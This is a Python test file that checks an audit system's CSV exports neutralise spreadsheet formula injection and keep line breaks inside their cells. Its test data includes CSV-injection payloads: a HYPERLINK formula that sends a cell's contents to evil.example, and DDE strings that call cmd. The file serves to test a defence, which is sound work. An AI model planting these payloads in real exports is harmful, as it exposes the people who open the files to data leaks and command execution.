"""CSV injection (session 21's walkthrough): text a spreadsheet would run as a formula
(OWASP: a cell starting with = + - @ tab or CR) is written to every CSV export after an
apostrophe, so it is shown as the text it is; JSON Lines carry it exactly. The places: the
HTTP and portal exports (`infra/http/streaming.py` `_cell`), the records' CSV
(`projections/export_lines.py` `csv_lines`) and the CLI's batches (`encoded`, byte for byte
the records' text)."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from fastapi.testclient import TestClient

from handlers import PartnerFleet
from projections.consent import HISTORY_COLUMNS
from projections.export_lines import csv_lines, encoded, spreadsheet_cell
from tests.unit.audit_http import api_of, read, world
from tests.unit.http_client import bearer

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["", "signed on paper", "a=b", "C1", "1-2", " =not at the start", "'quoted"]


@pytest.mark.parametrize("text", FORMULAS)
def test_s21_a_formula_cell_is_written_after_an_apostrophe(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", [*PLAIN, -1, 0, None, 2.5])
def test_s21_other_cells_are_written_as_they_are(value: Any) -> None:
    assert spreadsheet_cell(value) == value


def _row(reason: str, position: int) -> tuple[Any, ...]:
    values: dict[str, Any] = dict.fromkeys(HISTORY_COLUMNS, "x")
    values |= {"position": position, "version": -position, "reason": reason}
    return tuple(values.get(column) for column in HISTORY_COLUMNS)


def test_s21_the_records_and_the_batches_write_the_same_safe_text() -> None:
    rows = [_row(text, n) for n, text in enumerate([*FORMULAS, *PLAIN], start=1)]
    records = [dict(zip(HISTORY_COLUMNS, row, strict=True)) for row in rows]

    by_records = "".join(csv_lines(records))
    by_batches = "".join(chunk.text for chunk in encoded([rows[:4], rows[4:]], "csv"))

    assert by_batches == by_records
    read_back = list(csv.DictReader(io.StringIO(by_records, newline="")))
    assert [r["reason"] for r in read_back] == ["'" + f for f in FORMULAS] + PLAIN
    # numbers are not text: a negative version stays a number
    assert [r["version"] for r in read_back] == [str(-n) for n in range(1, len(rows) + 1)]


@pytest.mark.parametrize("text", ["a\rb", "a\r\nb", "a\nb", "\r", 'a"\rb', "a,\rb"])
def test_s21_a_cell_holding_a_line_break_stays_in_its_line(text: str) -> None:
    """A lone carriage return was written bare (csv quotes only its line terminator's
    characters) and split the line for every reader; each form reads back as written."""
    rows = [_row(text, 1), _row("plain", 2)]
    records = [dict(zip(HISTORY_COLUMNS, row, strict=True)) for row in rows]

    by_records = "".join(csv_lines(records))
    by_batches = "".join(chunk.text for chunk in encoded([rows], "csv"))

    assert by_batches == by_records
    assert by_records.endswith("\n")
    assert not by_records.endswith("\r\n")
    read_back = list(csv.DictReader(io.StringIO(by_records, newline="")))
    assert [r["reason"] for r in read_back] == [spreadsheet_cell(text), "plain"]


def test_s21_a_correction_reason_reaches_the_csv_export_as_text_and_jsonl_exactly() -> None:
    """The walkthrough's steps: an operator's correction whose reason is a formula, then
    the auditor's CSV export of the device's history (the same streamed writer serves the
    customer's export and the portal's download)."""
    fleet: PartnerFleet = world()
    api: TestClient = api_of(fleet)
    formula = FORMULAS[0]
    answer = api.post(
        "/audit/devices/S1/consent-corrections",
        json={"corrects_version": 3, "reason": formula},
        headers=bearer("ops"),
    )
    assert answer.status_code == 201

    as_csv = read(api, fleet, "/audit/consent-history/export", "auditor", serial="S1", format="csv")
    as_jsonl = read(api, fleet, "/audit/consent-history/export", "auditor", serial="S1")

    reasons = [r["reason"] for r in csv.DictReader(io.StringIO(as_csv.text)) if r["reason"]]
    assert reasons == ["'" + formula]
    exact = [json.loads(line)["reason"] for line in as_jsonl.text.splitlines()]
    assert formula in exact
